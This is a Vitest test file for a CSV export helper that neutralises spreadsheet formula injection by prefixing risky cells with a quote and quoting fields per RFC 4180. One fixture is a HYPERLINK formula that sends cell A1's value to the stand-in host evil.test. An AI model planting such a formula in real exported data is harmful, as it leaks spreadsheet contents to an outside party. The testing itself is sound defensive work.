import { describe, expect, it } from "vitest";
import { csvCell, neutraliseFormula, toCsv } from "@/lib/http/csv";

describe("CSV cells (formula injection)", () => {
  it.each([
    ["=", '=HYPERLINK("http://evil.test/?"&A1,"x")'],
    ["+", "+1+1"],
    ["-", "-2+3"],
    ["@", "@SUM(A1:A2)"],
    ["TAB", "\t=1+1"],
    ["CR", "\r=1+1"],
    ["full-width =", "＝1+1"],
    ["full-width +", "＋1"],
    ["full-width -", "－1"],
    ["full-width @", "＠SUM(A1)"],
  ])("prefixes a text cell starting with %s with a single quote", (_start, text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it("quotes the neutralised cell, doubling its quotes", () => {
    expect(csvCell('=HYPERLINK("http://evil.test/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil.test/?""&A1,""x"")"`);
  });

  it.each(["WhatsApp", "Indicação", "a=b", "1-2", " =1", "'=already"])("leaves text that cannot start a formula as it is: %j", (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });

  it("writes numbers as numbers, negative ones included", () => {
    expect(csvCell(3)).toBe('"3"');
    expect(csvCell(-3)).toBe('"-3"');
    expect(csvCell(0.5)).toBe('"0.5"');
  });

  it("quotes commas, quotes and line breaks per RFC 4180 and ends every line with CRLF", () => {
    expect(toCsv([["a,b", 'say "hi"', "two\nlines"], ["-x", -1, ""]])).toBe(
      '"a,b","say ""hi""","two\nlines"\r\n' + `"'-x","-1",""\r\n`,
    );
  });
});
